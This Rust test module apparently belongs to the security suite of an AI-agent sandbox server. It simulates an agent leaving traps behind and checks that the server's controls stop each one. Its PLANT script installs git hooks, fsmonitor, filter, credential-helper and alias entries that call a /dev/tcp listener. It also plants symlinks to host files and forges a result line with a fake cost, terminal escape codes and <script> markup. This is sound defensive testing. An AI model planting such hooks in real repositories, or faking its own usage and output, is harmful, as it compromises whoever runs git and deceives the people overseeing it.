//! What an agent leaves behind for others to fall for: in its repository, on the disk, in what it says of itself. Who is meant is
//! the server, or whoever reads the record. The control of each is the same on a server that leaves out the check which stops it;
//! where no check does, since nobody outside does such a thing at all, it is somebody who does. What the agent says of itself comes
//! over pipes that are put between, since a tool cannot speak for it ([`super::voice`]).

use std::fs::{self, File};
use std::io;
use std::os::unix::fs::{FileExt, MetadataExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, SystemTime};

use anyhow::Context;
use caisson_domain::checks::Check;
use rustix::fs::SeekFrom;
use serde_json::{Value, json};
use testkit::parts::Parts;
use testkit::piped_agent::{STREAM, behind_pipes};
use testkit::volumes::SessionFiles;
use testkit::world::{World, WorldSpec};

use super::control::Shown;
use super::door::{CONTROLS, without, without_checks};
use super::races::{DISK_MIB, Victim};
use super::report::{Report, Tried};
use super::surroundings::{Surroundings, UID};
use super::verdict::Verdict;
use super::witness::token;
use super::world::{Owner, Side, bash};

const WAIT: Duration = Duration::from_mins(2);
/// What an agent claims that its run has cost, in dollars, and what no run here costs, in micro-USD.
pub(super) const CLAIMED_USD: u32 = 4242;
pub(super) const TOO_MUCH_MICRO_USD: i64 = 1_000_000_000;
/// How much of a file is looked at at once, in bytes.
const PIECE: usize = 1024 * 1024;
/// How long the agent goes on while the server measures what it left, in seconds.
const MEASURED_S: u32 = 6;

/// Programs for whoever runs git here: the checkout's own hooks, filters, watchers and helpers, all of which tell a listener on the
/// host of it; a second `.git` that leads elsewhere; links to the host's files; a result that is none; and what clears a terminal.
const PLANT: &str = r#"cat > .git/tell <<'END'
#!/bin/bash
exec 3<>/dev/tcp/127.0.0.1/PORT && echo TOKEN >&3
END
chmod +x .git/tell
for hook in post-checkout pre-commit post-commit reference-transaction post-index-change pre-push; do
  printf '#!/bin/sh\n"$PWD"/.git/tell; exit 0\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config core.fsmonitor .git/tell
git config filter.tell.clean ".git/tell; cat"; git config filter.tell.smudge ".git/tell; cat"
git config credential.helper .git/tell; git config core.sshCommand .git/tell
git config alias.status '!.git/tell'; git config diff.external .git/tell
mkdir -p .git/info; echo '* filter=tell' > .git/info/attributes
mkdir other; ln -s VICTIM other/.git; ln -s VICTIM links; ln -s VICTIM/victim link
printf '{"type":"result","subtype":"success","is_error":false,"total_cost_usd":COST,"usage":{"input_tokens":1,"output_tokens":999999999},"result":"\\u001b[2J\\u001b]0;TOKEN\\u0007<script>TOKEN</script>"}\n' > STREAM
sleep MEASURED; true"#;

/// What is left behind.
struct Trace {
    name: &'static str,
    /// Who must not fall for it.
    wall: &'static str,
    /// The word of a refusal.
    word: &'static str,
    /// The check that the control leaves out. There is none where the wall is that nobody outside does such a thing at all: no
    /// build has code that would, and the control is somebody else who does.
    check: Option<Check>,
}

const HOOKS: Trace = Trace {
    name: "traces.programs_for_git",
    wall: "nobody outside runs git on a workspace",
    word: "UNHEARD",
    check: None,
};
const LINKS: Trace = Trace {
    name: "traces.links_to_the_host",
    wall: "nobody outside works on what links of a workspace lead to",
    word: "UNCHANGED",
    check: Some(Check::Links),
};
const USAGE: Trace = Trace {
    name: "traces.false_usage",
    wall: "usage is counted at the door",
    word: "UNCOUNTED",
    check: Some(Check::CountedUsage),
};
const TERMINAL: Trace = Trace {
    name: "traces.what_a_terminal_obeys",
    wall: "control characters are taken out before anything is printed",
    word: "REMOVED",
    check: Some(Check::PrintedText),
};
const PAGE: Trace = Trace {
    name: "traces.what_a_browser_obeys",
    wall: "answers are data, and say so",
    word: "DATA",
    check: Some(Check::AnswersAreData),
};
const ALL: [Trace; 5] = [HOOKS, LINKS, USAGE, TERMINAL, PAGE];
/// What a browser would run.
const MARKUP: &str = "<script>";

/// Whether an attempt has this in its name.
pub(super) fn has(only: &str) -> bool {
    !chosen(only).is_empty()
}

/// The checks that stop a trace.
#[cfg(test)]
pub(super) fn checks() -> impl Iterator<Item = Check> {
    ALL.into_iter().filter_map(|trace| trace.check)
}

fn chosen(only: &str) -> Vec<&'static Trace> {
    const { &ALL }.iter().filter(|trace| trace.name.contains(only)).collect()
}

/// The controls: the same on a server that leaves out that one check.
///
/// # Errors
/// As of [`attack`]; the build is missing.
pub(super) async fn controls(
    parts: &Parts,
    only: &str,
    surroundings: &Surroundings,
    report: &mut Report,
) -> anyhow::Result<()> {
    let checked: Vec<_> = chosen(only).into_iter().filter_map(|trace| Some((trace, trace.check?))).collect();
    if checked.is_empty() {
        return Ok(());
    }
    super::say(&format!("{} traces on servers without the check that stops each", checked.len()));
    let place = tempfile::tempdir_in("/var/tmp")?;
    let owner = CONTROLS.owner(&behind_pipes(&without_checks(parts)?, place.path())?)?;
    for (trace, check) in checked {
        let left = Left::leave(&owner, CONTROLS, Some(check), surroundings).await?;
        report.take(match left.fallen_for(trace, surroundings).await? {
            Some(_) => Shown::Real(1),
            None => {
                Shown::Nothing(vec![format!("{} without {}: nobody fell for it", trace.name, check.name())])
            }
        });
    }
    Ok(())
}

/// Leaves everything behind in one run of a side, and looks at who fell for it.
///
/// # Errors
/// A part does not start, or the run does not end.
pub(super) async fn attack(
    parts: &Parts,
    side: Side,
    only: &str,
    surroundings: &Surroundings,
    report: &mut Report,
) -> anyhow::Result<()> {
    let chosen = chosen(only);
    super::say(&format!("{} traces of a run of {}", chosen.len(), side.name()));
    let place = tempfile::tempdir_in("/var/tmp")?;
    let owner = side.owner(&behind_pipes(parts, place.path())?)?;
    let left = Left::leave(&owner, side, None, surroundings).await?;
    for trace in &chosen {
        let verdict = match left.fallen_for(trace, surroundings).await? {
            Some(how) => Verdict::Through(how),
            None => Verdict::Refused { error: trace.word.to_owned(), said: "nobody fell for it".to_owned() },
        };
        report.tried.push(Tried {
            name: trace.name,
            walls: trace.wall.to_owned(),
            refusals: vec![trace.word],
            side: side.name(),
            verdict,
        });
    }
    if chosen.iter().any(|trace| trace.name == HOOKS.name) {
        let files = SessionFiles::open(left.world.state_dir(), &left.session)?;
        let ran = runs_git(&files.directory().join("workspace"))? && surroundings.witness.heard(&left.told);
        report.take(if ran {
            Shown::Real(1)
        } else {
            Shown::Nothing(vec![format!("{} of {}: nobody would fall for it", HOOKS.name, side.name())])
        });
    }
    Ok(())
}

/// A run that has left everything behind.
struct Left {
    world: World,
    id: String,
    run: Value,
    session: String,
    victim: Victim,
    before: State,
    /// The word of this run.
    told: String,
}

impl Left {
    async fn leave(
        owner: &Owner,
        side: Side,
        off: Option<Check>,
        surroundings: &Surroundings,
    ) -> anyhow::Result<Self> {
        let victim = Victim::make()?;
        let before = state(&victim.file)?;
        let told =
            token("traces", &format!("{}-{}", side.name(), off.map_or("", Check::name)).replace('_', ""));
        let plant = PLANT
            .replace("PORT", &surroundings.witness.port.to_string())
            .replace("TOKEN", &told)
            .replace("COST", &CLAIMED_USD.to_string())
            .replace("VICTIM", victim.path()?)
            .replace("STREAM", STREAM)
            .replace("MEASURED", &MEASURED_S.to_string());
        let world = open(owner, side, &plant, off).await?;
        let mut body = world.run_body();
        body["resources"] = json!({ "workspace_mib": DISK_MIB });
        let id = world.api.submit(&body).await?;
        let run = world.api.wait_end(&id, WAIT).await?;
        world.wait_tidy().await?;
        let session = run["session_id"].as_str().context("the run has no session")?.to_owned();
        Ok(Self { world, id, run, session, victim, before, told })
    }

    /// How somebody fell for it; none if nobody did.
    async fn fallen_for(&self, trace: &Trace, surroundings: &Surroundings) -> anyhow::Result<Option<String>> {
        let said = |so: bool, how: &str| so.then(|| how.to_owned());
        Ok(match trace.name {
            name if name == HOOKS.name => said(surroundings.witness.heard(&self.told), "it ran outside"),
            name if name == LINKS.name => {
                let touched = state(&self.victim.file).ok().as_ref() != Some(&self.before);
                let measured = self.run["failure"]["kind"] == "disk_full";
                said(touched, "a file of the host was changed")
                    .or_else(|| said(measured, "what a link leads to was measured"))
            }
            name if name == USAGE.name => {
                let cost = self.run["usage"]["cost_micro_usd"].as_i64().context("the run has no cost")?;
                said(cost >= TOO_MUCH_MICRO_USD, "it is in the run's usage")
            }
            name if name == TERMINAL.name => {
                let printed = printed(&self.world, &self.id)?;
                anyhow::ensure!(printed.contains(&self.told), "what the run said is not printed: {printed}");
                said(printed.contains('\u{1b}'), "it is printed")
            }
            _ => {
                let (shown, obeyed) = pages(&self.world, &self.id, &self.session, &self.told).await?;
                anyhow::ensure!(shown, "no answer has the agent's markup");
                obeyed
            }
        })
    }
}

async fn open(owner: &Owner, side: Side, plant: &str, off: Option<Check>) -> anyhow::Result<World> {
    let steps = json!([bash(plant, 60_000), { "text": "Left everything behind." }]);
    let scenario =
        json!({ "traces": { "prompts": [steps, [{ "text": "chore: leave everything behind" }]] } });
    let spec = WorldSpec {
        scenario: "traces".to_owned(),
        scenarios: vec![scenario.to_string()],
        user: owner.user.clone(),
        variables: off.map(without).unwrap_or_default(),
        ..WorldSpec::on(side.engine)
    };
    World::start(&owner.parts, spec).await
}

/// Whether answers of the API have the agent's markup as it is, and which of them a browser would take for a page, as it comes
/// with a link that somebody follows.
async fn pages(world: &World, id: &str, session: &str, told: &str) -> anyhow::Result<(bool, Option<String>)> {
    let (mut shown, mut obeyed) = (false, None);
    let client = reqwest::Client::builder().no_proxy().build()?;
    let artifacts = world.api.get(&format!("/v1/runs/{id}/artifacts")).await?.body;
    let names = artifacts["artifacts"].as_array().or(artifacts["items"].as_array()).into_iter().flatten();
    let names = names.filter_map(|artifact| artifact["name"].as_str());
    let mut paths: Vec<_> = names.map(|name| format!("/v1/runs/{id}/artifacts/{name}")).collect();
    anyhow::ensure!(!paths.is_empty(), "the run has no artifact: {artifacts}");
    paths.extend([
        format!("/v1/runs/{id}"),
        format!("/v1/runs/{id}/events?limit=1000"),
        format!("/v1/sessions/{session}"),
        format!("/v1/runs?session={session}"),
        format!("/v1/runs/%3Cscript%3E{told}"),
    ]);
    for path in paths {
        let request = client.get(format!("{}{path}", world.server.base)).bearer_auth(&world.key);
        let answer = request.header("accept", "text/html,*/*").send().await?;
        let field = |name: &str| {
            answer.headers().get(name).and_then(|value| value.to_str().ok()).unwrap_or_default().to_owned()
        };
        let (kind, sniffing) = (field("content-type"), field("x-content-type-options"));
        let policy = field("content-security-policy");
        let text = answer.text().await?;
        let has_markup = text.contains(MARKUP) && text.contains(told);
        shown |= has_markup;
        let is_data = kind.starts_with("application/json") || kind.starts_with("application/problem+json");
        let is_data = is_data
            || kind.starts_with("application/octet-stream")
            || kind.starts_with("text/plain")
            || kind.starts_with("text/x-");
        if !is_data || sniffing != "nosniff" || !policy.starts_with("default-src 'none'") {
            obeyed = Some(format!("{path} is {kind}, {sniffing}, {policy}"));
        }
    }
    Ok((shown, obeyed))
}

/// What the command line prints of a run.
fn printed(world: &World, id: &str) -> anyhow::Result<String> {
    let mut all = String::new();
    for arguments in [&["logs", id][..], &["logs", id, "--json"], &["show", id]] {
        let output = world.client(arguments).output()?;
        all.push_str(&String::from_utf8_lossy(&output.stdout));
        all.push_str(&String::from_utf8_lossy(&output.stderr));
    }
    Ok(all)
}

/// Whether git runs there, for somebody who is as careless as most are; as the controls' user, with rights over nothing.
pub(super) fn runs_git(workspace: &Path) -> anyhow::Result<bool> {
    let (uid, gid) = (format!("--reuid={UID}"), format!("--regid={UID}"));
    let copy = tempfile::tempdir()?;
    let place: PathBuf = copy.path().join("workspace");
    let git = ["/usr/bin/setpriv", &uid, &gid, "--clear-groups", "/usr/bin/git", "-C", path(&place)?];
    start(&["/bin/cp", "-a", path(workspace)?, path(&place)?])?;
    start(&["/bin/chown", "-hR", &UID.to_string(), path(copy.path())?])?;
    start(&[&git[..], &["diff", "HEAD"]].concat())?;
    start(&[&git[..], &["add", "-A"]].concat())?;
    Ok(place.join(".git").is_dir())
}

/// Starts a program of a careless reader's, whatever becomes of it.
pub(super) fn start(words: &[&str]) -> anyhow::Result<()> {
    #[expect(clippy::disallowed_methods, reason = "a careless reader, with an argument vector")]
    let mut command = Command::new(words[0]);
    command.args(&words[1..]).env_clear().env("PATH", "/usr/bin:/bin").env("HOME", "/nonexistent");
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status()?;
    Ok(())
}

fn path(path: &Path) -> anyhow::Result<&str> {
    path.to_str().context("a path is not UTF-8")
}

/// What of a file of the host would tell that somebody worked on it: its text, its owner, its mode, its names and its times.
type State = (String, [u32; 2], u64, SystemTime);

pub(super) fn state(file: &Path) -> anyhow::Result<State> {
    let found = fs::metadata(file)?;
    Ok((fs::read_to_string(file)?, [found.uid(), found.mode()], found.nlink(), found.modified()?))
}

/// Whether a file below a directory has a text in it; links are not followed.
pub(super) fn find_text(directory: &Path, text: &str) -> bool {
    let has = |path: &Path| {
        let is_file = fs::symlink_metadata(path).is_ok_and(|found| found.is_file());
        is_file && has_text(path, text).unwrap_or_default()
    };
    super::world::find(directory, &has).is_some()
}

/// Looks piece by piece at what a file holds, and not at its holes: the image of a workspace has gigabytes of them.
fn has_text(path: &Path, text: &str) -> io::Result<bool> {
    let file = File::open(path)?;
    let finder = memchr::memmem::Finder::new(text);
    let mut end = 0;
    // Behind the last of what it holds there is nothing to go to.
    while let Ok(begin) = rustix::fs::seek(&file, SeekFrom::Data(end)) {
        end = rustix::fs::seek(&file, SeekFrom::Hole(begin))?;
        let (mut at, mut piece) = (begin, vec![0; PIECE]);
        while at < end {
            let wanted = usize::try_from(end - at).unwrap_or(PIECE).min(PIECE);
            let read = file.read_at(&mut piece[..wanted], at)?;
            if finder.find(&piece[..read]).is_some() {
                return Ok(true);
            }
            if read < PIECE {
                break;
            }
            // It may lie over the end of a piece.
            at += (read - text.len()) as u64;
        }
    }
    Ok(false)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_is_found_wherever_it_is_and_holes_take_no_time() {
        let directory = tempfile::tempdir().unwrap();
        let file = directory.path().join("image");
        let large = File::create(&file).unwrap();
        large.set_len(1 << 40).unwrap();
        let found = |text| find_text(directory.path(), text);
        assert!(!found("a-mark"));
        let piece = PIECE as u64;
        large.write_all_at(&vec![b'x'; 2 * PIECE], 1 << 39).unwrap();
        large.write_all_at(b"a-mark", (1 << 39) + piece - 3).unwrap();
        assert!(found("a-mark") && !found("another"));
        large.write_all_at(b"another", (1 << 40) - 7).unwrap();
        assert!(found("another"));
        std::os::unix::fs::symlink("/proc/version", directory.path().join("link")).unwrap();
        assert!(!found("Linux"));
    }
}
